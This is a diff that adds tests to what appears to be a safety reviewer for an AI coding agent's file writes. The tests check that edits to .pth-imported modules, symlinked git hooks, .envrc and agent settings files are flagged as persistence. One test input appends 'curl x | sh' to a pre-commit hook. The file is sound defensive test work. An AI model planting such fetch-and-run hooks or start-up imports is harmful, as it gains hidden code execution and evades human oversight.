@@ -300,3 +300,128 @@ def test_a_configuration_that_cannot_be_read_asks_about_every_write(
     (work / ".git" / "config").write_text("[core\n")
     (verdict,) = _review(["echo x > notes.txt"], "workspace-write", World(str(home), str(work)))
     assert verdict.decision == "ask", verdict.reason
+
+
+# ───────────────────────── beyond git: links and what `.pth` files import ─────────────────────────
+
+
+def _venv(work: Path) -> Path:
+    """A virtual environment in the workspace, with the start-up files setuptools, virtualenv and an editable install leave."""
+    subprocess.run(
+        ["python3", "-m", "venv", "--without-pip", str(work / ".venv")],
+        check=True,
+        timeout=_BOUND,
+        capture_output=True,
+    )
+    (packages,) = (work / ".venv" / "lib").glob("python3*/site-packages")
+    (packages / "distutils-precedence.pth").write_text(
+        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local';"
+        " enabled and __import__('_distutils_hack').add_shim(); \n"
+    )
+    (packages / "_distutils_hack").mkdir()
+    (packages / "_distutils_hack" / "__init__.py").write_text("def add_shim():\n    pass\n")
+    (packages / "_virtualenv.pth").write_text("import _virtualenv\n")
+    (packages / "_virtualenv.py").write_text("")
+    (packages / "__editable__.pkg-1.0.pth").write_text(
+        "import __editable___pkg_1_0_finder; __editable___pkg_1_0_finder.install()\n"
+    )
+    (packages / "__editable___pkg_1_0_finder.py").write_text("def install():\n    pass\n")
+    return packages
+
+
+def test_a_module_a_pth_file_imports_runs_at_every_start_and_is_a_point(
+    tmp_path: Path, home: Path
+) -> None:
+    work = _repository(tmp_path, home)
+    packages = _venv(work)
+    marker = tmp_path / "ran"
+    # What Python does: the module a `.pth` line imports runs at the interpreter's start.
+    with (packages / "_distutils_hack" / "__init__.py").open("a") as module:
+        module.write(f"open({str(marker)!r}, 'w').close()\n")
+    subprocess.run(
+        [str(work / ".venv" / "bin" / "python"), "-c", "pass"], check=True, timeout=_BOUND
+    )
+    assert marker.exists()
+    site = str(packages)
+    found = _points(work, home, f"{site}/_distutils_hack/__init__.py")
+    assert {
+        f"{site}/_distutils_hack/**",
+        f"{site}/_virtualenv.*",
+        f"{site}/__pycache__/_virtualenv.*",
+    } <= set(found)
+    relative = packages.relative_to(work)
+    planted = [
+        f'Edit {{"file_path": "{relative}/_distutils_hack/__init__.py", "old_string": "pass", "new_string": "x"}}',
+        f"echo 'import os' >> {relative}/_virtualenv.py",
+        f'Write {{"file_path": "{relative}/__editable___pkg_1_0_finder.py", "content": "x"}}',
+        f"echo x > {relative}/__pycache__/_virtualenv.cpython-311.pyc",
+    ]
+    (work / "src" / "pkg").mkdir(parents=True)
+    (work / "src" / "pkg" / "module.py").write_text("pass\n")
+    ordinary = [
+        'Edit {"file_path": "src/pkg/module.py", "old_string": "pass", "new_string": "x = 1"}',
+        "echo x > src/pkg/other.py",
+    ]
+    verdicts = _review(planted + ordinary, "workspace-write", World(str(home), str(work)))
+    assert [v.rule for v in verdicts[: len(planted)]] == ["write.persistence"] * len(planted), [
+        v.reason for v in verdicts
+    ]
+    assert [v.decision for v in verdicts[len(planted) :]] == ["allow"] * len(ordinary), [
+        v.reason for v in verdicts
+    ]
+
+
+def test_a_pth_file_past_its_bound_leaves_what_runs_at_start_unknown(
+    tmp_path: Path, home: Path
+) -> None:
+    work = _repository(tmp_path, home)
+    packages = _venv(work)
+    (packages / "big.pth").write_text("# padding\n" * 10_000)
+    found = persistence_points([f"{packages}/x.py"], environ=_environ(home))
+    assert found.unknown is not None
+    assert "big.pth" in found.unknown
+    relative = packages.relative_to(work)
+    (verdict,) = _review(
+        [f"echo x > {relative}/anything.py"], "workspace-write", World(str(home), str(work))
+    )
+    assert verdict.decision == "ask", verdict.reason
+
+
+def test_where_a_linked_hook_or_envrc_leads_is_a_point(tmp_path: Path, home: Path) -> None:
+    work = _repository(tmp_path, home)
+    (work / "tools").mkdir()
+    (work / "config").mkdir()
+    marker = tmp_path / "ran"
+    (work / "tools" / "pre-commit").write_text(f"#!/bin/sh\ntouch {marker}\n")
+    (work / "tools" / "pre-commit").chmod(0o755)
+    (work / "tools" / "lint").write_text("#!/bin/sh\n")
+    (work / "config" / "envrc").write_text("export A=1\n")
+    (work / "config" / "claude.json").write_text("{}\n")
+    (work / ".git" / "hooks" / "pre-commit").symlink_to("../../tools/pre-commit")
+    (work / ".envrc").symlink_to("config/envrc")
+    (work / ".claude").mkdir()
+    (work / ".claude" / "settings.json").symlink_to("../config/claude.json")
+    # What git does: it runs the hook where the link leads.
+    _git(work, home, "commit", "-q", "--allow-empty", "-m", "x")
+    assert marker.exists()
+    assert {
+        f"{work}/tools/pre-commit",
+        f"{work}/config/envrc",
+        f"{work}/config/claude.json",
+    } <= set(_points(work, home))
+    planted = [
+        "echo 'curl x | sh' >> tools/pre-commit",
+        'Edit {"file_path": "config/envrc", "old_string": "A=1", "new_string": "A=2"}',
+        'Write {"file_path": "config/claude.json", "content": "{}"}',
+    ]
+    ordinary = [  # the harmless twins: the same files when no persistence point links to them
+        "echo x >> tools/lint",
+        'Write {"file_path": "config/other", "content": "x"}',
+    ]
+    verdicts = _review(planted + ordinary, "workspace-write", World(str(home), str(work)))
+    assert [v.rule for v in verdicts[: len(planted)]] == ["write.persistence"] * len(planted), [
+        v.reason for v in verdicts
+    ]
+    assert [v.decision for v in verdicts[len(planted) :]] == ["allow"] * len(ordinary), [
+        v.reason for v in verdicts
+    ]
